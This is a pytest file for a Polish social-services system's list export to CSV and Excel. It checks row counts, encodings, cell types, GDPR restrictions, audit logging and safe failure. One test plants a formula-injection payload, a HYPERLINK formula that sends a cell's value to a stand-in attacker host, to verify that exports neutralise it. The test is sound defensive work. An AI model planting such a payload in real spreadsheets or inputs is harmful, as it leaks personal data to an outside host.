"""Lists to CSV and Excel as a KIPUS opens them: every row the screen would show (counted
here by SQL of the test's own), Polish letters right in both encodings, typed cells, a
frozen header, nothing a spreadsheet would run as a formula, and the export audited."""

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from app.cli import admin as admin_cli
from app.core.errors import KoordynatorError
from app.exchange import export, lists

COUNTS = {
    "residents": "SELECT count(*) FROM residents WHERE archived_at IS NULL AND restricted = 0",
    "applications": "SELECT count(*) FROM applications a JOIN residents r ON r.id ="
                    " a.resident_id WHERE a.archived_at IS NULL AND r.archived_at IS NULL"
                    " AND r.restricted = 0",
    "cases": "SELECT count(*) FROM cases c JOIN residents r ON r.id = c.resident_id WHERE"
             " c.archived_at IS NULL AND r.archived_at IS NULL AND r.restricted = 0",
    "plans": "SELECT count(*) FROM plan_versions v JOIN plans p ON p.id = v.plan_id JOIN"
             " cases c ON c.id = p.case_id JOIN residents r ON r.id = c.resident_id WHERE"
             " v.archived_at IS NULL AND r.archived_at IS NULL AND r.restricted = 0",
    "partners": "SELECT count(*) FROM partners WHERE archived_at IS NULL",
    "catalogue": "SELECT count(*) FROM services WHERE archived_at IS NULL",
    "documents": "SELECT count(*) FROM documents WHERE archived_at IS NULL",
}


def csv_rows(path, encoding="utf-8-sig"):
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding)), delimiter=";"))


@pytest.mark.parametrize("name", sorted(COUNTS))
def test_every_list_exports_every_row_to_csv_and_xlsx(demo_db, tmp_path, name):
    expected = demo_db.execute(COUNTS[name]).fetchone()[0]
    assert expected > 0 or name == "documents"
    table = lists.build(demo_db, name)
    export.write(table, tmp_path / "l.csv", "csv")
    export.write(table, tmp_path / "l.xlsx", "xlsx")
    rows = csv_rows(tmp_path / "l.csv")
    assert len(rows) == expected + 1 and rows[0] == [
        c.title + {"money": " (zł)", "share": " (%)"}.get(c.kind, "") for c in table.columns]
    sheet = load_workbook(tmp_path / "l.xlsx").worksheets[0]
    assert sheet.max_row == expected + 1 and sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == table.headers


def test_cells_keep_their_type_and_polish_letters(demo_db, tmp_path):
    export.write(lists.build(demo_db, "residents"), tmp_path / "m.xlsx", "xlsx")
    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[0]
    first = demo_db.execute("SELECT surname, first_name, birth_date, pesel FROM residents"
                            " WHERE archived_at IS NULL AND restricted = 0 ORDER BY sort_key,"
                            " id LIMIT 1").fetchone()
    row = [c.value for c in sheet[2]]
    assert row[:2] == [first[0], first[1]] and row[3] == first[3]  # PESEL stays text
    assert isinstance(row[5], datetime) and row[5].date() == date.fromisoformat(first[2])
    assert sheet.cell(2, 6).number_format == "dd.mm.yyyy"
    plans = load_workbook(_written(demo_db, tmp_path, "plans")).worksheets[0]
    versions = [r[2].value for r in plans.iter_rows(min_row=2)]
    assert versions and all(isinstance(v, int) and v >= 1 for v in versions)
    export.write(lists.build(demo_db, "residents"), tmp_path / "m.csv", "csv",
                 "windows-1250")
    raw = (tmp_path / "m.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("cp1250")
    polish = demo_db.execute("SELECT surname FROM residents WHERE surname GLOB '*[ąćęłńóśźżŁŚŻ]*'"
                             " AND restricted = 0 AND archived_at IS NULL LIMIT 1").fetchone()
    assert polish and polish[0] in text
    assert (tmp_path / "m.csv").read_bytes().count(b"\r\n") == text.count("\n")


def _written(db, tmp_path, name):
    path = tmp_path / f"{name}.xlsx"
    export.write(lists.build(db, name), path, "xlsx")
    return path


def test_a_formula_in_a_cell_is_text_in_both_formats(demo_db, tmp_path):
    app_id = demo_db.execute("SELECT id FROM applications ORDER BY filed_on LIMIT 1"
                             ).fetchone()[0]
    hostile = '=HYPERLINK("http://zly.example/?"&A2;"Kliknij")'
    demo_db.execute("UPDATE applications SET request = ? WHERE id = ?", [hostile, app_id])
    try:
        table = lists.build(demo_db, "applications")
        export.write(table, tmp_path / "w.csv", "csv")
        export.write(table, tmp_path / "w.xlsx", "xlsx")
    finally:
        demo_db.execute("UPDATE applications SET request = 'Pomoc' WHERE id = ?", [app_id])
    cells = [c for row in csv_rows(tmp_path / "w.csv") for c in row]
    assert "'" + hostile in cells and hostile not in cells
    for start in ("+48 600", "-1", "@SUM(A1)"):
        assert export.defused(start) == "'" + start
    assert export.defused("Żabno") == "Żabno"
    sheet = load_workbook(tmp_path / "w.xlsx").worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert found and all(c.data_type == "s" for c in found)  # a string, not a formula


def test_a_name_windows_1250_cannot_hold_is_reported(demo_db, tmp_path, capsys):
    rid = demo_db.execute("SELECT id FROM residents WHERE archived_at IS NULL AND"
                          " restricted = 0 LIMIT 1").fetchone()[0]
    old = demo_db.execute("SELECT first_name FROM residents WHERE id = ?", [rid]).fetchone()[0]
    demo_db.execute("UPDATE residents SET first_name = 'Олена' WHERE id = ?", [rid])
    demo_db.conn.commit()
    try:
        lost = export.write(lists.build(demo_db, "residents"), tmp_path / "u.csv", "csv",
                            "windows-1250")
        assert lost == 5
        assert admin_cli.main(["export", "residents", "--format", "csv", "--encoding",
                               "windows-1250", "--out", str(tmp_path / "c.csv"), "--db",
                               str(demo_db.path)]) == 0
        assert "Zapisz plik w UTF-8" in capsys.readouterr().err
        assert export.write(lists.build(demo_db, "residents"), tmp_path / "u8.csv",
                            "csv") == 0
        assert "Олена" in (tmp_path / "u8.csv").read_text("utf-8-sig")
    finally:
        demo_db.execute("UPDATE residents SET first_name = ? WHERE id = ?", [old, rid])
        demo_db.conn.commit()


def test_a_restricted_person_never_leaves_and_each_export_is_audited(demo_db, tmp_path,
                                                                     capsys):
    from app.documents import register

    rid, surname, pesel = demo_db.execute(
        "SELECT id, surname, pesel FROM residents WHERE archived_at IS NULL AND pesel IS NOT"
        " NULL LIMIT 1").fetchone()
    number = register.issue(demo_db, "zgoda", rid).number
    demo_db.execute("UPDATE residents SET restricted = 1 WHERE id = ?", [rid])
    try:
        table = lists.build(demo_db, "residents")
        documents = lists.build(demo_db, "documents")
    finally:
        demo_db.execute("UPDATE residents SET restricted = 0 WHERE id = ?", [rid])
    assert pesel not in [row[3] for row in table.rows]
    assert any("art. 18 RODO" in note for note in table.notes)
    assert number not in [row[0] for row in documents.rows]  # her name is in "Dotyczy"
    assert any("art. 18 RODO" in note for note in documents.notes)
    before = demo_db.execute("SELECT count(*) FROM audit_log WHERE action = 'eksport'"
                             ).fetchone()[0]
    demo_db.conn.commit()
    out = tmp_path / "m.csv"
    assert admin_cli.main(["export", "residents", "--format", "csv", "--out", str(out),
                           "--db", str(demo_db.path)]) == 0
    details = demo_db.execute("SELECT details FROM audit_log WHERE action = 'eksport' ORDER BY"
                              " rowid DESC LIMIT 1").fetchone()[0]
    assert demo_db.execute("SELECT count(*) FROM audit_log WHERE action = 'eksport'"
                           ).fetchone()[0] == before + 1
    assert str(out) in details and "csv" in details


def test_a_failed_write_keeps_the_old_file_and_leaves_nothing(demo_db, tmp_path,
                                                              monkeypatch):
    target = tmp_path / "stary.xlsx"
    target.write_bytes(b"old")

    def disk_full(table, path, preamble=()):
        path.write_bytes(b"half")
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(export, "_xlsx", disk_full)
    with pytest.raises(KoordynatorError, match="zabrakło miejsca"):
        export.write(lists.build(demo_db, "partners"), target, "xlsx")
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["stary.xlsx"]


def test_the_export_command(demo_db, tmp_path, capsys):
    db = str(demo_db.path)
    out = tmp_path / "plany.xlsx"
    assert admin_cli.main(["export", "plany", "--format", "xlsx", "--out", str(out),
                           "--db", db]) == 0
    count = demo_db.execute(COUNTS["plans"]).fetchone()[0]
    assert f"Plany (IPUS): {count} wierszy" in capsys.readouterr().out or count % 10 in (2, 3, 4)
    assert load_workbook(out).worksheets[0].max_row == count + 1
    assert admin_cli.main(["export", "nic", "--format", "csv", "--out",
                           str(tmp_path / "x.csv"), "--db", db]) == 2
    assert "Nieznana lista: nic" in capsys.readouterr().err
    assert admin_cli.main(["export", "residents", "--format", "csv", "--out", db + "-wal",
                           "--db", db]) == 2
    assert "innym plikiem niż baza" in capsys.readouterr().err


def test_what_an_attacker_tried_on_exports_is_refused(demo_db, tmp_path, capsys, monkeypatch):
    """A CSV named .xlsx, a device instead of a file, a full disk under XLSX: a Polish
    message, exit 2, nothing half-written, nothing audited."""
    import os

    import xlsxwriter

    db = str(demo_db.path)
    assert admin_cli.main(["export", "partners", "--format", "csv", "--out",
                           str(tmp_path / "p.xlsx"), "--db", db]) == 2
    assert "rozszerzenie .xlsx" in capsys.readouterr().err
    fifo = tmp_path / "rura"
    os.mkfifo(fifo)
    assert admin_cli.main(["export", "partners", "--format", "csv", "--out", str(fifo),
                           "--db", db]) == 2
    assert "nie jest zwykłym plikiem" in capsys.readouterr().err
    real_close = xlsxwriter.Workbook.close

    def disk_full(book):
        try:
            raise OSError(28, "No space left on device")
        except OSError as exc:
            raise xlsxwriter.exceptions.FileCreateError(exc) from exc
    monkeypatch.setattr(xlsxwriter.Workbook, "close", disk_full)
    before = demo_db.execute("SELECT count(*) FROM audit_log WHERE action = 'eksport'"
                             ).fetchone()[0]
    assert admin_cli.main(["export", "residents", "--format", "xlsx", "--out",
                           str(tmp_path / "m.xlsx"), "--db", db]) == 2
    assert "zabrakło miejsca" in capsys.readouterr().err
    assert demo_db.execute("SELECT count(*) FROM audit_log WHERE action = 'eksport'"
                           ).fetchone()[0] == before
    left = [p.name for p in tmp_path.iterdir()]
    assert "m.xlsx" not in left and not [n for n in left if n.startswith(".eksport")]
    monkeypatch.setattr(xlsxwriter.Workbook, "close", real_close)
